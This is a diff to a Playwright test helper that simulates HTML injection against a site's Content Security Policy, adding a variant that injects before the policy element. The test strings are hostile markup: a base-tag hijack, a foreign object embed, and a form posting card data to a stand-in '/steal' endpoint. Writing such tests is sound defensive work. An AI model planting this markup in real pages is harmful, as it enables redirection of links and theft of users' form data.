@@ -16,20 +16,38 @@ const INJECTED = `
 <base href="${FOREIGN}/">
 <form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;
 
+/**
+ * What an attacker would try who got text into a page before its policy, so that the policy's own
+ * element is not part of the head any more: only the header protects then.
+ */
+const INJECTED_BEFORE_POLICY = `
+<base href="${FOREIGN}/">
+<object data="${FOREIGN}/object"></object>
+<a id="injected-link" href="faq">a</a>
+<form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;
+
+/** Where the text gets into the page. */
+export type InjectionPoint = 'main' | 'before-policy';
+
+const INJECT: Record<InjectionPoint, (html: string) => string> = {
+  main: (html) => html.replace('</main>', `${INJECTED}</main>`),
+  'before-policy': (html) => html.replace('<head>', `<head>${INJECTED_BEFORE_POLICY}`),
+};
+
 /** What the browser blocked, by the directive that said so, and what came through all the same. */
 interface Outcome {
   readonly blocked: readonly string[];
   readonly passed: readonly string[];
 }
 
-/** Serves the page at `path` with the injected text in its body, headers and policy as they are. */
-async function serveInjected(page: Page, path: string): Promise<void> {
+/** Serves the page at `path` with the injected text, its headers and policy as they are. */
+async function serveInjected(page: Page, path: string, point: InjectionPoint): Promise<void> {
   await page.route(
     (url) => url.pathname === path,
     async (route) => {
       const response = await route.fetch();
       const html = await response.text();
-      await route.fulfill({ response, body: html.replace('</main>', `${INJECTED}</main>`) });
+      await route.fulfill({ response, body: INJECT[point](html) });
     },
     { times: 1 },
   );
@@ -57,7 +75,10 @@ async function reportBlocked(page: Page, blocked: string[]): Promise<void> {
 }
 
 /** Prepares the page. @returns opens an address as an attacker would have it and touches the bait. */
-export async function attacker(page: Page): Promise<(path: string) => Promise<Outcome>> {
+export async function attacker(
+  page: Page,
+  point: InjectionPoint = 'main',
+): Promise<(path: string) => Promise<Outcome>> {
   const reached: string[] = [];
   const blocked: string[] = [];
   await answerForeign(page, reached);
@@ -66,7 +87,7 @@ export async function attacker(page: Page): Promise<(path: string) => Promise<Ou
   return async (path) => {
     reached.length = 0;
     blocked.length = 0;
-    await serveInjected(page, path);
+    await serveInjected(page, path, point);
     await page.goto(path);
     await page.locator('#injected-link').dispatchEvent('click');
     await page.locator('#injected-form').evaluate((form) => {
